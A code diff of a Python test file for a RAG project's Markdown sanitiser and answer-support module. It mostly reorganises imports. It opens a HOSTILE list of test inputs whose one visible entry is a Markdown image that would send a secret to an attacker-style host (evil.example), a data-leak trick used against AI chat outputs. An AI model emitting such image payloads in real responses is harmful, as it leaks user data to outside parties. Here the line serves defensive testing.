@@ -1,4 +1,5 @@
-"""Untrusted text made safe for Markdown (rag.markdown); the supporting sentence (rag.support)."""
+"""Untrusted text made safe for Markdown (rag.views.markdown); the supporting sentence
+(rag.answering.support)."""
 
 from __future__ import annotations
 
@@ -6,7 +7,9 @@ import re
 
 import pytest
 
-from rag.markdown import (
+from rag.answering.support import claims_for, supporting_span
+from rag.core.text import sentence_spans
+from rag.views.markdown import (
     ZWSP,
     SafeMarkdownStream,
     escape_markdown,
@@ -14,8 +17,6 @@ from rag.markdown import (
     replace_images,
     safe_markdown,
 )
-from rag.support import claims_for, supporting_span
-from rag.text import sentence_spans
 
 HOSTILE = [
     "![x](http://evil.example/p.png?q=secret)",
